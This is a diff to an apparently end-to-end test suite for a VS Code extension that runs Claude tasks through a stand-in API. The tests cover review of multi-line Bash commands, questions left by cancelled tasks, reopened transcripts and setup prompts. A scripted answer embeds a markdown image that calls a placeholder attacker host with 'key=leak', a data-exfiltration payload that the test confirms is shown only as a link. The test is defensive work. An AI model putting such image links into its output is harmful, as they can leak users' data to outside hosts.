@@ -38,12 +38,17 @@ const SCENARIO_TIMEOUT_MS = Number(process.env.CB_E2E_TIMEOUT_MS || 240000);
 const EDIT_PROMPT = 'Make main.go greet the e2e test and record the permission';
 const CANCEL_PROMPT = 'Now wait for a very long time';
 const ASK_PROMPT = 'What does this function do?';
+// A prompt of many lines (a pasted log): the transcript's title is its first line.
+const TIDY_PROMPT = 'Tidy up the workspace\n' + Array.from({ length: 40 }, (_, i) => `log line ${i + 1}: something happened`).join('\n');
+// A command whose first line hides the rest.
+const TIDY_COMMAND = 'echo tidying up\necho tidied > tidied.txt\necho done';
+const STALE_PROMPT = 'Ask a question that nobody answers';
 const MAIN_GO = 'package main\n\nfunc main() {\n\tprintln("hello")\n}\n';
 const LONG_ANSWER =
   '## Done\n\nI **edited** `main.go` and wrote `perm.txt`:\n\n- the greeting now says *hello, e2e*\n- the command recorded the permission\n\n' +
   'Details of the change follow, at length.\n\n'.repeat(1) +
   Array.from({ length: 160 }, (_, i) => `${i + 1}. Step ${i + 1} of the walk-through: nothing more to see here, the change is small.\n`).join('') +
-  '\nEdited main.go and wrote perm.txt.';
+  '\n![status](https://attacker.invalid/pixel.png?key=leak)\n\nEdited main.go and wrote perm.txt.';
 
 function must(name) {
   const v = process.env[name];
@@ -216,7 +221,11 @@ const READ_UI = `(() => {
     const r2 = inner.getBoundingClientRect();
     let d;
     try { d = inner.contentDocument; } catch (e) { return { error: 'inner cross-origin: ' + e }; }
-    if (!d || !d.getElementById('transcript')) return { other: true };
+    if (!d || !d.getElementById('transcript')) {
+      const h = d && [...d.querySelectorAll('h1, h2, h3')].find((x) => /If claude is not found/.test(x.textContent));
+      return { other: true, text: d && d.body ? d.body.innerText.slice(0, 3000) : '', sectionTop: h ? Math.round(h.getBoundingClientRect().top) : null };
+    }
+    const head = d.querySelector('.block.head');
     const at = (el) => { const r = el.getBoundingClientRect(); return { x: r1.x + r2.x + r.x + r.width / 2, y: r1.y + r2.y + r.y + r.height / 2, w: r.width, h: r.height }; };
     return {
       title: ((d.querySelector('h1') || {}).textContent || '').trim(),
@@ -224,10 +233,22 @@ const READ_UI = `(() => {
       tools: [...d.querySelectorAll('details.tool')].map((e) => ({ cls: e.className, summary: e.querySelector('summary').textContent.trim(), open: e.open, html: e.innerHTML })),
       end: ((d.querySelector('.end') || {}).textContent || '').trim(),
       buttons: [...d.querySelectorAll('button[data-answer]')].map((b) => ({ label: b.textContent.trim(), question: b.closest('.question').textContent.trim(), disabled: b.disabled, ...at(b) })),
+      blocks: [...d.querySelectorAll('#transcript > .block')].filter((b) => !b.hidden).map((b) => b.dataset.key),
+      finalAnswers: (d.body.innerText.match(/Edited main\.go and wrote perm\.txt\./g) || []).length,
+      headTop: head ? Math.round(head.getBoundingClientRect().top) : null,
+      scrollY: Math.round(inner.contentWindow.scrollY),
+      imageLinks: [...d.querySelectorAll('a.image-link')].map((a) => a.getAttribute('href')),
+      images: [...d.querySelectorAll('img')].map((i) => i.getAttribute('src')),
+      csp: ((d.querySelector('meta[http-equiv="Content-Security-Policy"]') || {}).content || ''),
     };
   });
   const tabs = [...document.querySelectorAll('.tab')].map((t) => (t.getAttribute('aria-label') || t.textContent || '').trim());
-  return { toasts, dialog, status, statusItems, quickPick, workbench, webviews, tabs };
+  const se = document.querySelector('.settings-editor');
+  const settings = se && se.offsetParent !== null ? {
+    text: se.innerText.slice(0, 4000),
+    tab: ((se.querySelector('.settings-tabs-widget .action-item.checked, .settings-tabs-widget .checked') || {}).textContent || '').trim(),
+  } : null;
+  return { toasts, dialog, status, statusItems, quickPick, workbench, webviews, tabs, settings };
 })()`;
 
 // Scrolls the transcript page to its top.
@@ -236,6 +257,16 @@ const SCROLL_TRANSCRIPT_TOP = `(() => {
     try {
       const inner = outer.contentDocument && (outer.contentDocument.querySelector('iframe#active-frame') || outer.contentDocument.querySelector('iframe'));
       if (inner && inner.contentDocument && inner.contentDocument.getElementById('transcript')) inner.contentWindow.scrollTo(0, 0);
+    } catch { /* not ours */ }
+  }
+})()`;
+
+// Scrolls the transcript page to its end.
+const SCROLL_TRANSCRIPT_END = `(() => {
+  for (const outer of document.querySelectorAll('iframe')) {
+    try {
+      const inner = outer.contentDocument && (outer.contentDocument.querySelector('iframe#active-frame') || outer.contentDocument.querySelector('iframe'));
+      if (inner && inner.contentDocument && inner.contentDocument.getElementById('transcript')) inner.contentWindow.scrollTo(0, inner.contentDocument.body.scrollHeight);
     } catch { /* not ours */ }
   }
 })()`;
@@ -271,6 +302,14 @@ const seen = {
   transcript: null,
   transcriptAt: 0,
   claudeMissing: null,
+  // The multi-line command: its notification, the modal that shows it whole.
+  tidy: { toastText: '', toastButtons: [], review: null },
+  // The question of a task cancelled while it waited.
+  stale: { statusItem: '', goneAfterMs: -1, toastClicked: false, lateClick: '' },
+  // The transcript reopened from the task list after its task ended.
+  reopened: null,
+  readme: null,
+  claudeSettings: null,
 };
 let result;
 let steps = [];
@@ -375,6 +414,68 @@ async function answerQuestions(ui, page) {
   if (b.shot && !b.answeredAt && seen.clicks.some((c) => c.where === 'transcript') && bashButtons.length === 0) b.answeredAt = Date.now();
 }
 
+/**
+ * Issue 16, as a person meets it: a command whose first line hides the
+ * rest is reviewed whole before it is allowed; a question whose task was
+ * cancelled leaves the status bar, and its old notification's button says
+ * so; a transcript reopened after its task ended reads in order, its
+ * header sticking as it scrolls.
+ */
+async function issue16(ui, page) {
+  const t = seen.tidy;
+  const tidyToast = ui.toasts.find((x) => /^Claude wants to run Bash: “echo tidying up”/.test(x.text));
+  if (tidyToast && !t.toastText) {
+    t.toastText = tidyToast.text;
+    t.toastButtons = tidyToast.buttons.map((b) => b.label).filter(Boolean);
+    await sleep(300);
+    seen.screenshots.push(await cdp.screenshot(path.join(WORK, 'question-cut.png')));
+  }
+  const review = tidyToast && tidyToast.buttons.find((b) => b.label === 'Review…');
+  if (review && !t.review) await clickOnce('tidy-review', review, { where: 'tidy notification', text: tidyToast.text });
+
+  const st = seen.stale;
+  if (steps.some((x) => x.step === 'stale-asked') && !fs.existsSync(path.join(sandbox.e2eDir, 'stale-seen'))) {
+    const item = ui.statusItems.find((i) => /Claude asks/.test(i.label) && /echo never/.test(i.label));
+    if (item) {
+      st.statusItem = item.label;
+      fs.writeFileSync(path.join(sandbox.e2eDir, 'stale-seen'), '');
+    }
+  }
+  const staleEnd = steps.find((x) => x.step === 'stale-end');
+  if (staleEnd && !fs.existsSync(path.join(sandbox.e2eDir, 'stale-checked'))) {
+    if (st.goneAfterMs < 0 && !ui.statusItems.some((i) => /Claude asks/.test(i.label))) {
+      st.goneAfterMs = Date.now() - staleEnd.at;
+      seen.screenshots.push(await cdp.screenshot(path.join(WORK, 'stale-gone.png')));
+    }
+    // The question's notification cannot be taken back; its button now says the question is over.
+    const toast = ui.toasts.find((x) => /echo never/.test(x.text));
+    const allow = toast && toast.buttons.find((b) => b.label === 'Allow');
+    if (st.goneAfterMs >= 0 && allow) {
+      await clickOnce('stale-toast', allow, { where: 'stale toast', text: toast.text });
+      const click = seen.clicks.find((c) => c.where === 'stale toast');
+      if (click) st.toastClicked = click.at;
+    }
+    const said = [...seen.status].find((x) => /answered already, or its task ended/.test(x));
+    if (said) st.lateClick = said;
+    // Done once the status bar said so, or a while after the click, or when there was no toast to click.
+    const waited = st.toastClicked ? Date.now() - st.toastClicked > 8000 : Date.now() - staleEnd.at > 20000;
+    if (st.goneAfterMs >= 0 && (said || waited)) {
+      fs.writeFileSync(path.join(sandbox.e2eDir, 'stale-checked'), '');
+    }
+  }
+
+  if (steps.some((x) => x.step === 'tasks-start') && seen.taskActions.length > 0 && !seen.reopened && page && /Completed/.test(page.end) && page.title.startsWith('Make main.go')) {
+    const before = { blocks: page.blocks, finalAnswers: page.finalAnswers };
+    await cdp.eval(SCROLL_TRANSCRIPT_END);
+    await sleep(400);
+    const ui2 = await cdp.eval(READ_UI);
+    const p2 = ui2.webviews.find((w) => w.title !== undefined && !w.other && !w.error);
+    seen.reopened = { ...before, headTop: p2 && p2.headTop, scrollY: p2 && p2.scrollY, end: page.end };
+    seen.screenshots.push(await cdp.screenshot(path.join(WORK, 'transcript-scrolled.png')));
+    fs.writeFileSync(path.join(sandbox.e2eDir, 'reopened-read'), '');
+  }
+}
+
 async function drive() {
   const end = Date.now() + SCENARIO_TIMEOUT_MS;
   const resultFile = path.join(sandbox.e2eDir, 'result.json');
@@ -408,6 +509,11 @@ async function drive() {
     // A modal permission question (Bash) is answered first: it covers the rest.
     if (ui.dialog) {
       seen.dialogs.push(ui.dialog.text);
+      if (/echo tidying up/.test(ui.dialog.text) && !seen.tidy.review) {
+        seen.tidy.review = { text: ui.dialog.text, buttons: ui.dialog.buttons.map((b) => b.label) };
+        await sleep(300);
+        seen.screenshots.push(await cdp.screenshot(path.join(WORK, 'question-review.png')));
+      }
       const allow = ui.dialog.buttons.find((b) => b.label === 'Allow');
       if (/Claude wants to run/.test(ui.dialog.text) && allow) {
         await clickOnce('dialog:' + ui.dialog.text, allow, {
@@ -422,6 +528,7 @@ async function drive() {
     for (const w of ui.webviews) if (w.error) seen.webviewErrors.add(w.error);
     const page = ui.webviews.find((w) => w.title !== undefined && !w.other && !w.error);
     await answerQuestions(ui, page);
+    await issue16(ui, page);
     if (page && steps.some((x) => x.step === 'run-end') && !seen.transcript) {
       const end = steps.find((x) => x.step === 'run-end');
       if (/Completed/.test(page.end)) {
@@ -434,13 +541,37 @@ async function drive() {
         fs.writeFileSync(path.join(sandbox.e2eDir, 'transcript-read'), '');
       }
     }
-    if (steps.some((x) => x.step === 'claude-missing-start') && !seen.claudeMissing) {
+    if (steps.some((x) => x.step === 'claude-missing-start') && !seen.readme) {
       const t = ui.toasts.find((x) => /cannot find the claude CLI/.test(x.text));
-      if (t) {
+      if (t && !seen.claudeMissing) {
         await sleep(500); // let it settle for the picture
         seen.claudeMissing = { text: t.text, buttons: t.buttons.map((b) => b.label) };
         seen.screenshots.push(await cdp.screenshot(path.join(WORK, 'claude-missing.png')));
+      }
+      // Open README: the packed readme opens in a preview at its section.
+      const readmeButton = t && t.buttons.find((b) => b.label === 'Open README');
+      if (readmeButton) await clickOnce('readme', readmeButton, { where: 'claude missing', text: t.text });
+      // The preview, scrolled to the section (its heading near the top).
+      const preview = ui.webviews.find((w) => w.other && w.sectionTop !== null && w.sectionTop !== undefined && w.sectionTop < 200);
+      if (preview) {
+        seen.readme = {
+          tabs: ui.tabs,
+          section: true,
+          sectionTop: preview.sectionTop,
+          notFound: [...seen.toastTexts].some((x) => /cannot be found|could not be found/i.test(x)),
+        };
         fs.writeFileSync(path.join(sandbox.e2eDir, 'claude-missing-seen'), '');
+      }
+    }
+    if (steps.some((x) => x.step === 'claude-missing-again') && !seen.claudeSettings) {
+      const t = ui.toasts.find((x) => /cannot find the claude CLI/.test(x.text));
+      const setPath = t && t.buttons.find((b) => b.label === 'Set claudePath…');
+      if (setPath) await clickOnce('set-claude-path', setPath, { where: 'claude missing', text: t.text });
+      if (ui.settings && /claudePath|Claude Path/i.test(ui.settings.text) && !/No Settings Found/.test(ui.settings.text)) {
+        await sleep(500);
+        seen.claudeSettings = { tab: ui.settings.tab, text: ui.settings.text.slice(0, 1500) };
+        seen.screenshots.push(await cdp.screenshot(path.join(WORK, 'set-claudepath.png')));
+        fs.writeFileSync(path.join(sandbox.e2eDir, 'claude-settings-seen'), '');
       }
     }
     // The task list: click the status bar item, pick the edit task, open its transcript.
@@ -499,7 +630,7 @@ before(async () => {
   const permFile = path.join(sandbox.workspace, 'perm.txt');
   fs.writeFileSync(
     path.join(sandbox.e2eDir, 'scenario.json'),
-    JSON.stringify({ file, permFile, editPrompt: EDIT_PROMPT, cancelPrompt: CANCEL_PROMPT, askPrompt: ASK_PROMPT }),
+    JSON.stringify({ file, permFile, editPrompt: EDIT_PROMPT, cancelPrompt: CANCEL_PROMPT, askPrompt: ASK_PROMPT, tidyPrompt: TIDY_PROMPT, stalePrompt: STALE_PROMPT }),
   );
 
   // The stand-in's script: one turn per API request of a conversation. The
@@ -533,8 +664,22 @@ before(async () => {
     { blocks: [{ type: 'text', text: LONG_ANSWER }], chunkSize: 8, chunkDelayMs: 1 },
     { blocks: [{ type: 'text', text: 'This answer comes too late.' }], delayMs: 120000 },
   ];
+  // Issue 16's tasks have conversations of their own (by their prompt).
+  const conversations = [
+    {
+      match: 'Tidy up the workspace',
+      turns: [
+        { blocks: [{ type: 'tool_use', name: 'Bash', input: { command: TIDY_COMMAND, description: 'Tidy the workspace' } }] },
+        { blocks: [{ type: 'text', text: 'Tidied.' }] },
+      ],
+    },
+    {
+      match: STALE_PROMPT,
+      turns: [{ blocks: [{ type: 'tool_use', name: 'Bash', input: { command: 'echo never > never.txt', description: 'Never answered' } }] }, { blocks: [{ type: 'text', text: 'x' }] }],
+    },
+  ];
   const scriptPath = path.join(WORK, 'script.json');
-  fs.writeFileSync(scriptPath, JSON.stringify(script));
+  fs.writeFileSync(scriptPath, JSON.stringify({ turns: script, conversations }));
   const api = start('fakeapi', FAKEAPI, ['--script', scriptPath, '--workspace', sandbox.workspace, '--key', KEY], {
     pipeStdout: true,
   });
@@ -652,6 +797,7 @@ after(async () => {
       {
         result, steps, clicks: seen.clicks, toasts: [...seen.toastTexts], status: [...seen.status], dialogs: [...new Set(seen.dialogs)],
         edit: seen.edit, bash: seen.bash, transcript: seen.transcript, claudeMissing: seen.claudeMissing,
+        tidy: seen.tidy, stale: seen.stale, reopened: seen.reopened, readme: seen.readme, claudeSettings: seen.claudeSettings,
         webviewErrors: [...seen.webviewErrors], screenshots: seen.screenshots,
       },
       null,
@@ -721,7 +867,7 @@ test('an Edit permission question is still answerable after its notification hid
   assert.ok(pickClick && pickClick.at > e.hiddenAt, 'answered from the picker after the notification hid');
   assert.deepEqual(result.questionAnswers.find((a) => a.name === 'Edit'), { name: 'Edit', decision: 'allow', automatic: false });
   assert.equal(result.run.status, 'completed');
-  assert.deepEqual(seen.dialogs, [], 'no modal: every tool asks the same way');
+  assert.deepEqual(seen.dialogs.filter((d) => !/echo tidying up/.test(d)), [], 'no modal but the review of a cut command: every tool asks the same way');
   const q = result.questions.find((x) => x.toolName === 'Edit');
   assert.ok(q && q.taskId === result.run.taskId && q.toolUseId, `the question names its task and call: ${JSON.stringify(q)}`);
 });
@@ -734,7 +880,7 @@ test('the Bash question was answered with the button in the transcript', () => {
   assert.equal((result.permFile || '').trim(), 'e2e-permission-granted', 'the allowed command ran');
   assert.deepEqual(result.questionAnswers.find((a) => a.name === 'Bash'), { name: 'Bash', decision: 'allow', automatic: false });
   assert.ok(
-    ![...seen.toastTexts].some((t) => /Claude wants to run Bash/.test(t)),
+    ![...seen.toastTexts].some((t) => /Claude wants to run Bash: “echo e2e-permission-granted/.test(t)),
     'no notification: the transcript on screen shows the question (a notification could not be closed once answered there)',
   );
 });
@@ -764,7 +910,9 @@ test('the transcript is a page a person reads: rendered text, tool blocks, the r
     `# transcript: ${result.textEvents} text events in ${(result.runMs / 1000).toFixed(1)} s of task; ${result.transcriptMessages} messages to the page; ` +
       `the page showed the end ${seen.transcriptAfterRunEndMs} ms after the task's reply (read every ~200 ms)`,
   );
-  assert.ok(result.textEvents >= 1000, `a long stream: ${result.textEvents} text events`);
+  // Over a thousand on an idle machine; the bridge joins deltas claude has already written
+  // when it falls behind (a busy machine), so fewer then, but still a long stream.
+  assert.ok(result.textEvents >= 300, `a long stream: ${result.textEvents} text events`);
   assert.ok(result.transcriptMessages < result.textEvents / 5, `batched: ${result.transcriptMessages} messages for ${result.textEvents} text events`);
 });
 
@@ -819,4 +967,52 @@ test('the status bar item opens the task list; a task opens its transcript', () 
   assert.ok(seen.taskActions.some((a) => /Open Transcript/.test(a)), JSON.stringify(seen.taskActions));
   assert.match(result.transcriptFromTaskList, /^Claude: Make main\.go greet/);
   assert.ok(seen.taskActions.some((a) => /Follow Up/.test(a)), JSON.stringify(seen.taskActions));
+});
+
+test('a command whose first line hides the rest: no Allow until it is seen whole (a modal), allowed there', () => {
+  const t = seen.tidy;
+  assert.match(t.toastText, /^Claude wants to run Bash: “echo tidying up” \(and 2 more lines\) \(task “Tidy up the workspace/, 'the one-line message says there is more');
+  assert.deepEqual(t.toastButtons, ['Review…', 'Deny'], 'no Allow on the notification');
+  assert.ok(t.review, 'Review… opened the whole command' + why());
+  for (const line of TIDY_COMMAND.split('\n')) assert.ok(t.review.text.includes(line), `the modal shows "${line}": ${t.review.text}`);
+  assert.deepEqual(t.review.buttons.filter((b) => ['Allow', 'Allow for this task', 'Deny'].includes(b)).sort(), ['Allow', 'Allow for this task', 'Deny']);
+  assert.equal(result.tidy.status, 'completed', why());
+  assert.equal(result.tidyFile, true, 'allowed in the modal: the command ran');
+  assert.equal(result.tidyTitle, null, 'no transcript tab for it (the question came as a notification)');
+});
+
+test('a question whose task was cancelled leaves the status bar and the store; its old notification says it is over', () => {
+  const st = seen.stale;
+  assert.match(st.statusItem, /Claude asks: Bash: “echo never/, 'the question waited in the status bar' + why());
+  assert.equal(result.staleCancel, true);
+  assert.equal(result.stale.status, 'cancelled');
+  assert.deepEqual(result.stalePending, [], 'nothing waits once the task ended');
+  assert.ok(st.goneAfterMs >= 0 && st.goneAfterMs < 5000, `the status bar item went (${st.goneAfterMs} ms after the task's end)`);
+  assert.ok(st.toastClicked, 'the old notification\'s Allow was clicked');
+  assert.match(st.lateClick, /that question was answered already, or its task ended/);
+});
+
+test('a transcript reopened after its task ended: the answer once, the end last; the header sticks; remote images stay links', () => {
+  const r = seen.reopened;
+  assert.ok(r, 'the transcript opened from the task list was read' + why());
+  assert.equal(r.blocks.at(-1), 'end', `the end is the last block: ${JSON.stringify(r.blocks)}`);
+  assert.equal(r.blocks[0], 'head');
+  assert.equal(r.finalAnswers, 1, 'the final answer once');
+  assert.ok(r.scrollY > 500, `scrolled down (${r.scrollY})`);
+  assert.ok(r.headTop !== null && r.headTop <= 1, `the header stuck to the top (${r.headTop})`);
+  const t = seen.transcript;
+  assert.deepEqual(t.images, [], 'no image element');
+  assert.deepEqual(t.imageLinks, ['https://attacker.invalid/pixel.png?key=leak'], 'the image is a link');
+  const imgSrc = (/img-src ([^;]*)/.exec(t.csp) || [])[1] || '';
+  assert.doesNotMatch(imgSrc, /(^|\s)(https?:|\*)(\s|$)/, `no remote images in the CSP (only VS Code's own resources): ${t.csp}`);
+});
+
+test('claude not found: Open README opens the packed readme at its section; Set claudePath… opens where the machine setting lives', () => {
+  assert.ok(seen.readme, 'the README preview opened' + why());
+  assert.equal(seen.readme.notFound, false, 'no "cannot be found"');
+  assert.equal(seen.readme.section, true, 'the section is in the preview');
+  assert.ok(seen.readme.tabs.includes('Preview readme.md'), JSON.stringify(seen.readme.tabs));
+  assert.ok(seen.claudeSettings, 'the settings opened on claudePath' + why());
+  assert.match(seen.claudeSettings.text, /Claude Path/i);
+  if (result.remoteName) assert.match(seen.claudeSettings.tab, /Remote/, `a remote window (${result.remoteName}): the Remote tab`);
 });
